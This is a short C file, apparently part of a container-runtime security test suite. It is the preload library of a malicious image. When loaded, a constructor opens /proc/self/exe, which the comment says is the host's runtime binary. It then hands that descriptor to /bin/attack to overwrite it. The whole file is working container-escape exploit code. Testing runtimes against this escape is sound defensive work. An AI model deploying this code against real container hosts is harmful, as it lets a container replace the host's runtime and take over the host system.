/* SPDX-License-Identifier: Apache-2.0 */
/* A library of a malicious image. The image's entry point is /proc/self/exe:
 * the host's runtime runs inside the container and maps this file. It keeps
 * the runtime's program open and leaves the rest to the attack program. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void begin(void)
{
	char fd_text[16];
	char *identity = getenv("DECOY_IDENTITY");
	char *args[] = { "attack", "overwrite-fd", fd_text, identity, NULL };
	int fd = open("/proc/self/exe", O_RDONLY);

	snprintf(fd_text, sizeof(fd_text), "%d", fd);
	unsetenv("LD_PRELOAD");
	if (fd >= 0 && identity)
		execv("/bin/attack", args);
	printf("FAIL library could not begin\n");
	fflush(stdout);
	_exit(1);
}
